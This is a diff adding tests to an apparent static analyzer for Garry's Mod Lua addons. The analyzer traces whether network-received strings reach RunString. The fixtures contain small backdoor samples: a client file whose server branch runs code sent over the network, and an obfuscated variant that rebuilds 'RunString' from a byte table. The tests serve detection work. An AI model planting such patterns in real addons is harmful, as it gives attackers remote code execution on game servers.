@@ -395,4 +395,80 @@ describe('loops with unknown branches', () => {
     const run = analysis.calls.find((c) => c.api === 'RunString');
     expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
   });
+
+  it('runs a client file included by server code on the server too (its SERVER branch)', () => {
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/server/sv_xhair.lua':
+          'include(string.format("autorun/%s/cl_xhair.lua", "client"))\nhook.Add("PlayerSay", "x", function(ply, text) net.Start("xhair_sync") net.WriteString(text) net.Send(ply) end)',
+        'lua/autorun/client/cl_xhair.lua': [
+          'if SERVER then',
+          '  util.AddNetworkString("xhair_sync")',
+          '  net.Receive("xhair_sync", function(len, ply) RunString(net.ReadString()) end)',
+          '  return',
+          'end',
+          'hook.Add("HUDPaint", "x", function() surface.DrawRect(0, 0, 2, 2) end)',
+        ].join('\n'),
+      }),
+      { intel },
+    );
+    const run = analysis.calls.find((c) => c.api === 'RunString');
+    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
+    expect(run?.realm).toBe('server');
+    const realms = Object.fromEntries(analysis.files.map((f) => [f.path, f.realm]));
+    expect(realms['lua/autorun/client/cl_xhair.lua']).toBe('shared');
+  });
+
+  it('leaves a client file the server only sends to clients in the client realm', () => {
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/server/sv_xhair.lua':
+          'AddCSLuaFile("autorun/client/cl_xhair.lua")\nutil.AddNetworkString("xhair_sync")',
+        'lua/autorun/client/cl_xhair.lua': [
+          'if SERVER then',
+          '  net.Receive("xhair_sync", function(len, ply) RunString(net.ReadString()) end)',
+          '  return',
+          'end',
+          'net.Receive("xhair_sync", function() print(net.ReadString()) end)',
+        ].join('\n'),
+      }),
+      { intel },
+    );
+    expect(analysis.calls.some((c) => c.api === 'RunString')).toBe(false);
+    const realms = Object.fromEntries(analysis.files.map((f) => [f.path, f.realm]));
+    expect(realms['lua/autorun/client/cl_xhair.lua']).toBe('client');
+  });
+
+  it('reads a global table that a settings file with nothing watched builds', () => {
+    // The settings file names no sink: it is only run when a global it fills is read.
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/sh_xhair_config.lua':
+          'Xhair = Xhair or {}\nXhair.Bitmap = { 0x52, 0x75, 0x6E, 0x53, 0x74, 0x72, 0x69, 0x6E, 0x67 }',
+        'lua/autorun/server/sv_xhair.lua': [
+          'util.AddNetworkString("xhair_sync")',
+          'local load = _G[string.char(unpack(Xhair.Bitmap))]',
+          'net.Receive("xhair_sync", function(len, ply) load(net.ReadString()) end)',
+        ].join('\n'),
+      }),
+      { intel },
+    );
+    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
+    expect(parse['lua/autorun/sh_xhair_config.lua']).toBe('ok');
+    const run = analysis.calls.find((c) => c.api === 'RunString');
+    expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
+  });
+
+  it('leaves a settings file unparsed when nothing reads the globals it fills', () => {
+    const analysis = analyzeAddon(
+      entries({
+        'lua/autorun/sh_xhair_config.lua': 'Xhair = Xhair or {}\nXhair.Size = { 4, 6 }',
+        'lua/autorun/server/sv_xhair.lua':
+          'util.AddNetworkString("xhair_sync")\nnet.Receive("xhair_sync", function(len, ply) Other.Run(net.ReadString()) end)',
+      }),
+      { intel },
+    );
+    const parse = Object.fromEntries(analysis.files.map((f) => [f.path, f.parse]));
+    expect(parse['lua/autorun/sh_xhair_config.lua']).toBe('skimmed');
+  });
 });
